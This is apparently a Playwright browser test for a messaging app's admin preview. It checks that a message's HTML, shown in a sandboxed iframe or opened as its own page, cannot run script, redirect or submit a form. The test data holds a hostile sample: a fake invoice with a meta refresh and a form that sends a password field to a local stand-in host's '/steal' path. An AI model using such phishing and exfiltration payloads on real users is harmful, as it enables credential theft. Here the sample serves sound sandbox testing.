"""A message's own HTML, as the admin shows it, in a real browser: neither in its frame nor
opened on its own as a tab can it run a script, leave the page, or send a form anywhere."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from playwright.sync_api import Page, expect

from support.browser import PageWatch
from support.browser_site import Site, login

from .conftest import Shoot, shoot_whole


class _Elsewhere(BaseHTTPRequestHandler):
    """Another site: records every request that reaches it."""

    hits: list[str]

    def do_GET(self) -> None:
        self.hits.append(self.path)
        self.send_response(200)
        self.end_headers()
        self.wfile.write(b"elsewhere")

    def log_message(self, *_: object) -> None:
        return


@pytest.fixture
def elsewhere() -> Iterator[tuple[str, list[str]]]:
    hits: list[str] = []
    handler = type("Handler", (_Elsewhere,), {"hits": hits})
    server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_address[1]}", hits
    server.shutdown()
    server.server_close()


def _hostile_message(site: Site, target: str) -> int:
    html = (
        f'<html><head><meta http-equiv="refresh" content="0;url={target}/refreshed"></head>'
        "<body><h1>Your invoice</h1>"
        f'<form action="{target}/steal" method="get"><input name="password" value="pw">'
        '<button id="go">Sign in</button></form>'
        "<script>document.body.setAttribute('data-ran', 'yes')</script></body></html>"
    )
    with site.api() as api:
        answer = api.post(
            "/api/v1/messages",
            json={"to": ["ada@example.com"], "subject": "Invoice", "html": html},
        )
    assert answer.status_code == 201, answer.text
    return int(answer.json()["id"])


def test_the_html_of_a_message_stays_inert_in_its_frame_and_on_its_own(
    page: Page,
    site: Site,
    shoot: Shoot,
    watches: dict[int, PageWatch],
    elsewhere: tuple[str, list[str]],
) -> None:
    target, hits = elsewhere
    # The browser says what it blocked: the test's own proof, not a fault of the page.
    watches[id(page)].expect_console_errors(
        r"^Blocked script execution in '.*/html' because the document's frame is sandboxed",
        r"^Refused to execute the redirect specified via '<meta http-equiv='refresh'",
        r"^Blocked form submission to '.*' because the form's frame is sandboxed",
    )
    message_pk = _hostile_message(site, target)
    page.goto(f"{site.url}/admin/messages/{message_pk}")
    login(page, site)
    frame = page.frame_locator("iframe.message-preview")
    expect(frame.locator("h1")).to_have_text("Your invoice")
    assert page.locator("iframe.message-preview").get_attribute("sandbox") == ""
    expect(frame.locator("body")).not_to_have_attribute("data-ran", "yes")
    shoot_whole(page, "message", shoot)

    # The same URL opened as a page of its own: no script, no refresh, no form sent out.
    page.goto(f"{site.url}/admin/messages/{message_pk}/html")
    expect(page.locator("h1")).to_have_text("Your invoice")
    page.locator("#go").click()
    page.wait_for_timeout(1500)  # time for a refresh or a submission to leave, if it could
    assert page.url == f"{site.url}/admin/messages/{message_pk}/html"
    expect(page.locator("body")).not_to_have_attribute("data-ran", "yes")
    assert hits == []
